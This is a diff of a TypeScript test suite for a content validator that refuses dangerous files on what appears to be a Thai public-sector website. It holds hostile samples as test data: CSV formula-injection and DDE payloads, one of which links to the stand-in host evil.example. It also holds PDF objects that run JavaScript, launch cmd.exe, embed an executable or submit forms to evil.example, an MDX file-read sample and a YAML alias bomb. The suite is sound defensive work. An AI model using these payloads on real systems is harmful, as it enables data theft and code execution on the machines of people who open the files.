@@ -27,21 +27,26 @@ async function scratch(): Promise<ScratchSite> {
   return site;
 }
 const errorsOf = async (site: ScratchSite): Promise<ContentProblem[]> =>
-  (await loadAndValidateContent(site.root, path.relative(site.root, path.join(site.root, 'content')))).problems.filter((problem) => problem.severity === 'error');
+  (await loadAndValidateContent(site.root, path.relative(site.root, path.join(site.root, 'content')))).problems.filter(
+    (problem) => problem.severity === 'error',
+  );
 const planFile = 'content/documents/2567/procurement-plan.md';
 const withBody = (site: ScratchSite, markdown: string) => site.edit(planFile, (text) => `${text}\n${markdown}\n`);
 const pageFile = (name: string, body = 'เนื้อหา') => `---\ntitle: หน้าทดสอบ\n---\n${body}\n`.replace('หน้าทดสอบ', name);
 
 describe('content is data, never code: MDX is refused in every collection', () => {
-  it.each(['content/pages/notice.mdx', 'content/documents/2567/notice.mdx', 'content/measures/2567/notice.MDX', 'content/news/notice.mdx'])('%s', async (file) => {
-    const site = await scratch();
-    await site.write(file, `---\ntitle: ประกาศ\n---\nimport fs from "node:fs";\n\n{fs.readFileSync("/etc/hostname", "utf8")}\n`);
-    const problems = await errorsOf(site);
-    const mdx = problems.filter((problem) => problem.en.includes('not .mdx'));
-    expect(mdx).toEqual([expect.objectContaining({ file: expect.stringMatching(new RegExp(`${path.basename(file).replace('.', '\\.')}$`)), line: 1 })]);
-    // Nothing else about it (its fields are never read); an upper-case extension is also a bad file name.
-    expect(problems.filter((problem) => !mdx.includes(problem)).every((problem) => problem.en.includes('bad web address'))).toBe(true);
-  });
+  it.each(['content/pages/notice.mdx', 'content/documents/2567/notice.mdx', 'content/measures/2567/notice.MDX', 'content/news/notice.mdx'])(
+    '%s',
+    async (file) => {
+      const site = await scratch();
+      await site.write(file, `---\ntitle: ประกาศ\n---\nimport fs from "node:fs";\n\n{fs.readFileSync("/etc/hostname", "utf8")}\n`);
+      const problems = await errorsOf(site);
+      const mdx = problems.filter((problem) => problem.en.includes('not .mdx'));
+      expect(mdx).toEqual([expect.objectContaining({ file: expect.stringMatching(new RegExp(`${path.basename(file).replace('.', '\\.')}$`)), line: 1 })]);
+      // Nothing else about it (its fields are never read); an upper-case extension is also a bad file name.
+      expect(problems.filter((problem) => !mdx.includes(problem)).every((problem) => problem.en.includes('bad web address'))).toBe(true);
+    },
+  );
 });
 
 describe('only regular files inside content/ are read or published', () => {
@@ -76,7 +81,9 @@ describe('only regular files inside content/ are read or published', () => {
     await site.write(`content/documents/2567/${onDisk}`, tinyPdf());
     await site.edit(planFile, (text) => text.replace('file: procurement-plan-2567.pdf', `file: "${written}"`));
     const problems = (await errorsOf(site)).filter((problem) => !problem.en.includes('bad web address'));
-    expect(problems.map((problem) => problem.en)).toEqual([`file name "${written}" looks like "${onDisk}" but its vowels or tone marks are stored differently (Unicode NFC/NFD)`]);
+    expect(problems.map((problem) => problem.en)).toEqual([
+      `file name "${written}" looks like "${onDisk}" but its vowels or tone marks are stored differently (Unicode NFC/NFD)`,
+    ]);
   });
 });
 
@@ -105,7 +112,10 @@ describe('the rendered HTML is checked, whatever the encoding (the class of java
 
   it('keeps the safe ones: https, mailto, tel, relative links and same-page anchors', async () => {
     const site = await scratch();
-    await withBody(site, '[เว็บ](https://www.nacc.go.th/) [อีเมล](mailto:saraban@example.go.th) [โทร](tel:044123456) [แผน](procurement-plan-2567.pdf) [บน](#top)\n\n| ลำดับ | รายการ |\n|:--|--:|\n| 1 | จัดซื้อ |\n\n- [x] ทำแล้ว\n\nหมายเหตุ[^1]\n\n[^1]: ตามประกาศ');
+    await withBody(
+      site,
+      '[เว็บ](https://www.nacc.go.th/) [อีเมล](mailto:saraban@example.go.th) [โทร](tel:044123456) [แผน](procurement-plan-2567.pdf) [บน](#top)\n\n| ลำดับ | รายการ |\n|:--|--:|\n| 1 | จัดซื้อ |\n\n- [x] ทำแล้ว\n\nหมายเหตุ[^1]\n\n[^1]: ตามประกาศ',
+    );
     expect(await errorsOf(site)).toEqual([]);
   });
 });
@@ -129,7 +139,9 @@ describe('dangerous elements and attributes are refused (the class of redirects,
     const site = await scratch();
     await withBody(site, markup);
     const problems = await errorsOf(site);
-    expect(problems.map((problem) => problem.en)).toContain(`the content contains a <${element}> element, which published content may not carry (it can run code, redirect the page or embed another site)`);
+    expect(problems.map((problem) => problem.en)).toContain(
+      `the content contains a <${element}> element, which published content may not carry (it can run code, redirect the page or embed another site)`,
+    );
     expect(problems[0]?.line).toBe(13);
   });
 
@@ -151,7 +163,10 @@ describe('dangerous elements and attributes are refused (the class of redirects,
 describe('robust parsing: every problem reported, no stack trace', () => {
   it('a YAML alias bomb is one clear problem, and the other files are still checked', async () => {
     const site = await scratch();
-    const bomb = ['a: &a [1,1,1,1,1,1,1,1,1,1]', ...'bcdefgh'.split('').map((key, index) => `${key}: &${key} [${Array(10).fill(`*${'abcdefgh'[index]}`).join(',')}]`)].join('\n');
+    const bomb = [
+      'a: &a [1,1,1,1,1,1,1,1,1,1]',
+      ...'bcdefgh'.split('').map((key, index) => `${key}: &${key} [${Array(10).fill(`*${'abcdefgh'[index]}`).join(',')}]`),
+    ].join('\n');
     await site.write('content/measures/2567/bomb.md', `---\n${bomb}\n---\n`);
     await site.edit('content/documents/2567/procurement-2567-01.md', (text) => text.replace('published: 2567-02-29', 'published: 2567-02-30'));
     const problems = await errorsOf(site);
@@ -163,7 +178,10 @@ describe('robust parsing: every problem reported, no stack trace', () => {
 
   it('invalid UTF-8, an empty file and front matter that is a list each name the file and line', async () => {
     const site = await scratch();
-    await writeFile(path.join(site.root, 'content/news/tis620.md'), Buffer.concat([Buffer.from('---\ntitle: ok\n'), Buffer.from([0xbb, 0xc3, 0xd0, 0x0a]), Buffer.from('---\n')]));
+    await writeFile(
+      path.join(site.root, 'content/news/tis620.md'),
+      Buffer.concat([Buffer.from('---\ntitle: ok\n'), Buffer.from([0xbb, 0xc3, 0xd0, 0x0a]), Buffer.from('---\n')]),
+    );
     await site.write('content/news/empty.md', '');
     await site.write('content/news/list.md', '---\n- title: ข่าว\n- date: 2567-01-01\n---\nเนื้อหา\n');
     const problems = await errorsOf(site);
@@ -179,7 +197,12 @@ describe('messages staff can act on', () => {
   it.each([
     ['a colon inside a title', 'title: แผนการจัดซื้อจัดจ้าง: ฉบับปรับปรุง', 2, 'put quotes around a value that contains a colon, e.g. title: "Plan: revised"'],
     ['a field written twice, by name', 'fiscalYear: 2567\nfiscalYear: 2567', 5, undefined],
-    ['a list bracket never closed, at its opening line', 'measures: [2567/no-gift\nsummary: สรุป', 4, 'close it with ] on the same line, or write one item per line starting with -'],
+    [
+      'a list bracket never closed, at its opening line',
+      'measures: [2567/no-gift\nsummary: สรุป',
+      4,
+      'close it with ] on the same line, or write one item per line starting with -',
+    ],
     ['a value starting with a dash', 'summary: - รายงาน', 4, 'quote the value, e.g. summary: "- text"'],
   ])('%s', async (_name, yaml, line, fixEn) => {
     const site = await scratch();
@@ -273,9 +296,9 @@ describe('published spreadsheets carry no formulas (CSV injection, OWASP): every
   const payloads: [string, string][] = [
     ['=', '=HYPERLINK("http://evil.example/x","ดูเอกสาร")'],
     ['= DDE', "=cmd|' /C calc'!A0"],
-    ['+', '+1+cmd|\' /C calc\'!A0'],
-    ['-', '-2+3+cmd|\' /C calc\'!A0'],
-    ['@', '@SUM(1+1)*cmd|\' /C calc\'!A0'],
+    ['+', "+1+cmd|' /C calc'!A0"],
+    ['-', "-2+3+cmd|' /C calc'!A0"],
+    ['@', "@SUM(1+1)*cmd|' /C calc'!A0"],
     ['tab', '\t=1+1'],
     ['carriage return', '\r=1+1'],
     ['leading spaces', '   =1+1'],
@@ -304,7 +327,10 @@ describe('published spreadsheets carry no formulas (CSV injection, OWASP): every
     expect(csv).toContain(`"'${payload.replace(/"/g, '""')}"`);
   };
 
-  const withDocumentTitle = (title: string): ContentModel => ({ ...fixture, documents: fixture.documents.map((entry) => ({ ...entry, data: { ...entry.data, title } })) });
+  const withDocumentTitle = (title: string): ContentModel => ({
+    ...fixture,
+    documents: fixture.documents.map((entry) => ({ ...entry, data: { ...entry.data, title } })),
+  });
   const withMeasureText = (text: string): ContentModel => ({
     ...fixture,
     measures: fixture.measures.map((entry) => ({
@@ -314,7 +340,10 @@ describe('published spreadsheets carry no formulas (CSV injection, OWASP): every
   });
   const withIndicatorTitle = (title: string): ContentModel => ({
     ...fixture,
-    catalogues: fixture.catalogues.map((entry) => ({ ...entry, data: { ...entry.data, indicators: entry.data.indicators.map((indicator) => ({ ...indicator, title })) } })),
+    catalogues: fixture.catalogues.map((entry) => ({
+      ...entry,
+      data: { ...entry.data, indicators: entry.data.indicators.map((indicator) => ({ ...indicator, title })) },
+    })),
   });
 
   it.each(payloads)('data/documents.csv: a title starting with %s', (_name, payload) => {
@@ -336,28 +365,42 @@ describe('published spreadsheets carry no formulas (CSV injection, OWASP): every
     const catalogue = fixture.catalogues.find((entry) => entry.data.year === 2567)!.data;
     const tampered = { ...catalogue, items: catalogue.items.map((item) => ({ ...item, title: payload })) };
     const assessment = assessCatalogue(tampered, collectEvidence(fixture), fixture.site, '2024-06-30');
-    for (const showGaps of [false, true]) expectInert(toCsv(itasRows(2567, assessment, fixture.site.siteUrl, { showGaps }), itasColumns({ showGaps })), payload);
+    for (const showGaps of [false, true])
+      expectInert(toCsv(itasRows(2567, assessment, fixture.site.siteUrl, { showGaps }), itasColumns({ showGaps })), payload);
   });
 
   it.each(payloads)('data/procurement-<year>.csv: an item and a winner starting with %s', async (_name, payload) => {
     const year = await loadAndValidateContent(path.join(projectRoot, 'tests/fixtures/sites/procurement-year'));
     if (!year.model) throw new Error('the procurement-year fixture does not validate');
     const procurement = year.model.procurement!;
-    const months = procurement.months.map((month) => ({ ...month, data: { ...month.data, rows: month.data.rows.map((row) => ({ ...row, item: payload, winner: { ...row.winner, name: payload } })) } }));
+    const months = procurement.months.map((month) => ({
+      ...month,
+      data: { ...month.data, rows: month.data.rows.map((row) => ({ ...row, item: payload, winner: { ...row.winner, name: payload } })) },
+    }));
     const tampered = { ...year.model, procurement: { ...procurement, months } };
     const [dataset] = procurementDatasets(tampered);
     expectInert(toCsv(dataset!.rows, dataset!.columns), payload);
   });
 
   it('keeps numbers numbers: a negative amount is written bare, not as text', () => {
-    const csv = toCsv([{ amount: -1500.5, note: 'คืนเงิน' }, { amount: -5, note: '-5' }], [
-      { header: 'amount', value: (row) => row.amount },
-      { header: 'note', value: (row) => row.note },
-    ]);
+    const csv = toCsv(
+      [
+        { amount: -1500.5, note: 'คืนเงิน' },
+        { amount: -5, note: '-5' },
+      ],
+      [
+        { header: 'amount', value: (row) => row.amount },
+        { header: 'note', value: (row) => row.note },
+      ],
+    );
     expect(csv).toContain('\r\n-1500.5,คืนเงิน\r\n');
     // The same characters typed as text are text.
     expect(csv).toContain(`\r\n-5,"'-5"\r\n`);
-    expect(cells(csv).slice(1).map((row) => row[0])).toEqual(['-1500.5', '-5']);
+    expect(
+      cells(csv)
+        .slice(1)
+        .map((row) => row[0]),
+    ).toEqual(['-1500.5', '-5']);
   });
 
   it('leaves ordinary Thai text, dates and addresses untouched', () => {
@@ -373,26 +416,53 @@ describe('PDF attachments with active content are refused, however the PDF hides
   const annotation = (action: string) => ({ page: '/Annots [5 0 R]', objects: [`<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] /A ${action} >>`] });
   const refused: [string, Parameters<typeof pdfWith>[0], string[]][] = [
     ['OpenAction running JavaScript (exportDataObject)', { catalog: '/OpenAction 5 0 R', objects: [js] }, ['javascript']],
-    ['a document-level script in the JavaScript name tree', { catalog: '/Names << /JavaScript 5 0 R >>', objects: ['<< /Names [(init) 6 0 R] >>', '<< /S /JavaScript /JS (app.alert(1)) >>'] }, ['javascript']],
+    [
+      'a document-level script in the JavaScript name tree',
+      { catalog: '/Names << /JavaScript 5 0 R >>', objects: ['<< /Names [(init) 6 0 R] >>', '<< /S /JavaScript /JS (app.alert(1)) >>'] },
+      ['javascript'],
+    ],
     ['a link that launches a program', annotation('<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>'), ['launch']],
     ['OpenAction launching a file', { catalog: '/OpenAction << /S /Launch /F (payload.exe) >>' }, ['launch']],
     ['additional actions on a page', { page: '/AA << /O 5 0 R >>', objects: [js] }, ['javascript', 'additional-actions']],
     ['additional actions on the catalogue, without script', { catalog: '/AA << /WC << /S /URI /URI (https://evil.example/) >> >>' }, ['additional-actions']],
     [
       'an embedded file (EmbeddedFiles name tree, file specification, EmbeddedFile stream)',
-      { catalog: '/Names << /EmbeddedFiles 5 0 R >>', objects: ['<< /Names [(invoice.exe) 6 0 R] >>', '<< /Type /Filespec /F (invoice.exe) /EF << /F 7 0 R >> >>', '<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream'] },
+      {
+        catalog: '/Names << /EmbeddedFiles 5 0 R >>',
+        objects: [
+          '<< /Names [(invoice.exe) 6 0 R] >>',
+          '<< /Type /Filespec /F (invoice.exe) /EF << /F 7 0 R >> >>',
+          '<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream',
+        ],
+      },
       ['embedded-file'],
     ],
-    ['a file attachment annotation', { page: '/Annots [5 0 R]', objects: ['<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 10 10] /FS 6 0 R >>', '<< /Type /Filespec /F (a.docm) >>'] }, ['embedded-file']],
+    [
+      'a file attachment annotation',
+      { page: '/Annots [5 0 R]', objects: ['<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 10 10] /FS 6 0 R >>', '<< /Type /Filespec /F (a.docm) >>'] },
+      ['embedded-file'],
+    ],
     ['an XFA form', { catalog: '/AcroForm << /Fields [] /XFA 5 0 R >>', objects: ['<< /Length 7 >>\nstream\n<xdp/>\n\nendstream'] }, ['xfa']],
     ['a form that submits itself elsewhere', annotation('<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/collect) >> >>'), ['submit-form']],
     ['a form that imports data', annotation('<< /S /ImportData /F (data.fdf) >>'), ['import-data']],
-    ['rich media (Flash, video, 3D)', { page: '/Annots [5 0 R]', objects: ['<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] /RichMediaContent << >> >>'] }, ['rich-media']],
+    [
+      'rich media (Flash, video, 3D)',
+      { page: '/Annots [5 0 R]', objects: ['<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] /RichMediaContent << >> >>'] },
+      ['rich-media'],
+    ],
     ['JavaScript behind a name escape (/J#61vaScript, /J#53)', { catalog: '/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>' }, ['javascript']],
-    ['JavaScript behind lower-case hex escapes (/#4aavaScript, /#4a#53)', { catalog: '/OpenAction << /S /#4aavaScript /#4a#53 (app.alert(1)) >>' }, ['javascript']],
+    [
+      'JavaScript behind lower-case hex escapes (/#4aavaScript, /#4a#53)',
+      { catalog: '/OpenAction << /S /#4aavaScript /#4a#53 (app.alert(1)) >>' },
+      ['javascript'],
+    ],
     ['Launch behind an escape (/L#61unch)', annotation('<< /S /L#61unch /F (cmd.exe) >>'), ['launch']],
     ['JavaScript in a compressed object stream', { catalog: '/OpenAction 5 0 R', objects: [js], objectStream: true }, ['javascript']],
-    ['escaped names in a compressed object stream', { catalog: '/Names << /EmbeddedFil#65s 5 0 R >> /OpenAction << /S /J#61vaScript /JS (1) >>', objects: ['<< /Names [] >>'], objectStream: true }, ['javascript', 'embedded-file']],
+    [
+      'escaped names in a compressed object stream',
+      { catalog: '/Names << /EmbeddedFil#65s 5 0 R >> /OpenAction << /S /J#61vaScript /JS (1) >>', objects: ['<< /Names [] >>'], objectStream: true },
+      ['javascript', 'embedded-file'],
+    ],
   ];
 
   const activeProblems = async (name: string, bytes: Uint8Array) => {
@@ -441,7 +511,9 @@ describe('PDF attachments with active content are refused, however the PDF hides
   it('refuses an active PDF inside a ZIP, naming the file inside', async () => {
     const archive = zipSync({ 'docs/notice.pdf': pdfWith({ catalog: '/OpenAction 5 0 R', objects: [js] }) });
     const check = await checkAttachmentType('bundle.zip', archive);
-    expect(check.ok ? [] : check.problems).toEqual([{ key: 'attachment.pdf-active-content', params: { path: 'bundle.zip', inArchive: 'docs/notice.pdf', found: ['javascript'] } }]);
+    expect(check.ok ? [] : check.problems).toEqual([
+      { key: 'attachment.pdf-active-content', params: { path: 'bundle.zip', inArchive: 'docs/notice.pdf', found: ['javascript'] } },
+    ]);
   });
 
   it.each([
@@ -455,7 +527,9 @@ describe('PDF attachments with active content are refused, however the PDF hides
   });
 
   it('accepts the PDFs the example site and the fixtures publish', async () => {
-    const fixtures = ['thai-manual', 'scanned-declaration', 'national-id', 'owner-password-only', 'password-protected'].map((name) => readFile(path.join(projectRoot, `tests/fixtures/pdf/${name}.pdf`)));
+    const fixtures = ['thai-manual', 'scanned-declaration', 'national-id', 'owner-password-only', 'password-protected'].map((name) =>
+      readFile(path.join(projectRoot, `tests/fixtures/pdf/${name}.pdf`)),
+    );
     for (const bytes of [simplePdf({ lines: ['Report 2567'], info: { Title: 'รายงาน' } }), bytesOf(tinyPdf()), ...(await Promise.all(fixtures))]) {
       expect(await checkAttachmentType('report.pdf', new Uint8Array(bytes))).toMatchObject({ ok: true });
     }
@@ -474,9 +548,17 @@ describe('PDF attachments with active content are refused, however the PDF hides
 
   it('is reported by validation, naming the attachment', async () => {
     const site = await scratch();
-    await writeFile(path.join(site.root, 'content/documents/2567/procurement-plan-2567.pdf'), pdfWith({ catalog: '/OpenAction 5 0 R', objects: [js], objectStream: true }));
+    await writeFile(
+      path.join(site.root, 'content/documents/2567/procurement-plan-2567.pdf'),
+      pdfWith({ catalog: '/OpenAction 5 0 R', objects: [js], objectStream: true }),
+    );
     const problems = await errorsOf(site);
-    expect(problems).toEqual([expect.objectContaining({ file: expect.stringMatching(/content\/documents\/2567\/procurement-plan-2567\.pdf$/), th: expect.stringContaining('JavaScript') })]);
+    expect(problems).toEqual([
+      expect.objectContaining({
+        file: expect.stringMatching(/content\/documents\/2567\/procurement-plan-2567\.pdf$/),
+        th: expect.stringContaining('JavaScript'),
+      }),
+    ]);
   });
 });
 
@@ -508,7 +590,10 @@ describe('CSV attachments carry no formula that reaches out (what staff publish 
   });
 
   it('accepts signed numbers, phone numbers, a dash for "none", Thai text after a dash and a dash inside quoted text', async () => {
-    const check = await checkAttachmentType('procurement.csv', bytesOf('ชื่อ,โทร,ยอด,หมายเหตุ\nก,+66 2 123 4567,-1234.50,-\nข,-,-500,-ไม่มี-\nค,(02) 123-4567,+15,"รวม VAT, - see page 2"\n'));
+    const check = await checkAttachmentType(
+      'procurement.csv',
+      bytesOf('ชื่อ,โทร,ยอด,หมายเหตุ\nก,+66 2 123 4567,-1234.50,-\nข,-,-500,-ไม่มี-\nค,(02) 123-4567,+15,"รวม VAT, - see page 2"\n'),
+    );
     expect(check).toMatchObject({ ok: true });
   });
 
@@ -524,6 +609,8 @@ describe('CSV attachments carry no formula that reaches out (what staff publish 
     await site.edit(planFile, (text) => text.replace('file: procurement-plan-2567.pdf', 'file: procurement-plan-2567.csv'));
     await site.write('content/documents/2567/procurement-plan-2567.csv', csvWith('=HYPERLINK("http://evil.example/","แผน")'));
     const problems = (await errorsOf(site)).filter((problem) => problem.en.includes('formula'));
-    expect(problems).toEqual([expect.objectContaining({ file: expect.stringMatching(/procurement-plan-2567\.csv$/), th: expect.stringContaining('บรรทัด 3 คอลัมน์ 2') })]);
+    expect(problems).toEqual([
+      expect.objectContaining({ file: expect.stringMatching(/procurement-plan-2567\.csv$/), th: expect.stringContaining('บรรทัด 3 คอลัมน์ 2') }),
+    ]);
   });
 });
